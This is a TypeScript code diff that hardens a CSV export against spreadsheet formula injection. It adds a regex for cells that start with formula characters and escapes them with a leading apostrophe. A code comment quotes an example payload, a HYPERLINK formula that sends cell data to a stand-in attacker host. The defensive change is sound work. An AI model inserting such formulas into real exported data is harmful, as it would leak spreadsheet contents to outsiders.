@@ -140,13 +140,26 @@ export const ResultsFromWebview = z.discriminatedUnion('type', [
 ]);
 export type ResultsFromWebview = z.infer<typeof ResultsFromWebview>;
 
+/**
+ * Text a spreadsheet would take for a formula (or a DDE call): it starts with = + - @ (or their full-width
+ * forms), a tab or a carriage return, perhaps after spaces and line breaks. Group values and column names
+ * come from event data that outsiders can write, e.g. `=HYPERLINK("http://evil.example/?"&A2,"x")`.
+ */
+const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
+
 function csvCell(c: Cell): string {
   if (c === null) return '';
   const s = String(c);
+  // Numbers are written as numbers (-3 stays -3); text that would run as a formula gets a leading
+  // apostrophe, quoted, so a spreadsheet shows it as text (OWASP's advice on CSV injection).
+  if (typeof c === 'string' && FORMULA_START.test(s)) return `"'${s.replace(/"/g, '""')}"`;
   return /[",\r\n]/.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
-/** RFC 4180 CSV: a header line, then one line per row, CRLF line ends, fields quoted where needed. */
+/**
+ * RFC 4180 CSV: a header line, then one line per row, CRLF line ends, fields quoted where needed; text a
+ * spreadsheet would evaluate stays text (csvCell).
+ */
 export function toCsv(table: Table): string {
   const lines = [table.columns.map(csvCell).join(','), ...table.rows.map((r) => r.map(csvCell).join(','))];
   return `${lines.join('\r\n')}\r\n`;
